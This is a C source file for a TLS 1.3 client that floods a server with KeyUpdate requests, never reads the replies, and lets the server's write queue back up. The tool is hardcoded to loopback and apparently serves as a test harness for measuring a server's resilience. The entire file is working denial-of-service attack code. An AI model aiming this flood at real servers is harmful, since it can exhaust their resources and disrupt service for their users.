/* A hostile TLS 1.3 client: after the handshake it sends COUNT KeyUpdate(update_requested)
 * records, each in its own TCP segment, and never reads. Prints "sent N" (N records written
 * before the server closed) and then waits for its stdin to close, so the connection stays
 * open while the caller measures the server. No certificate check: it attacks, it trusts
 * nothing. Its receive buffer is small, so the server's answers back up into its own write
 * queue soon; PAUSE_US between records makes each arrive in its own server read; a GET of
 * PATH first (a large response it never reads) fills the server's socket buffer at once.
 * Usage: keyupdate_flood PORT COUNT [PAUSE_US [PATH]] */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc < 3 || argc > 5) {
    fprintf(stderr, "usage: keyupdate_flood PORT COUNT [PAUSE_US [PATH]]\n");
    return 2;
  }
  signal(SIGPIPE, SIG_IGN);  /* the server cutting us off is an answer, not a crash */
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[1]))};
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int one = 1;
  int rcvbuf = 4096;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof rcvbuf);
  if (connect(fd, (struct sockaddr*)&addr, sizeof addr) != 0) {
    perror("connect");
    return 1;
  }
  SSL_CTX* ctx = SSL_CTX_new(TLS_client_method());
  SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION);
  SSL* ssl = SSL_new(ctx);
  SSL_set_fd(ssl, fd);
  SSL_set_tlsext_host_name(ssl, "mail.example.com");
  if (SSL_connect(ssl) != 1) {
    fprintf(stderr, "handshake failed\n");
    return 1;
  }
  long count = atol(argv[2]), sent = 0;
  useconds_t pause = argc >= 4 ? (useconds_t)atol(argv[3]) : 0;
  if (argc == 5) {
    char request[512];
    int n = snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nHost: mail.example.com\r\n\r\n", argv[4]);
    if (SSL_write(ssl, request, n) != n) return 1;
  }
  for (; sent < count; ++sent) {
    if (SSL_key_update(ssl, SSL_KEY_UPDATE_REQUESTED) != 1 || SSL_do_handshake(ssl) != 1) break;
    if (pause) usleep(pause);
  }
  printf("sent %ld\n", sent);
  fflush(stdout);
  char buf[64];
  while (read(0, buf, sizeof buf) > 0) {
  }
  return 0;
}
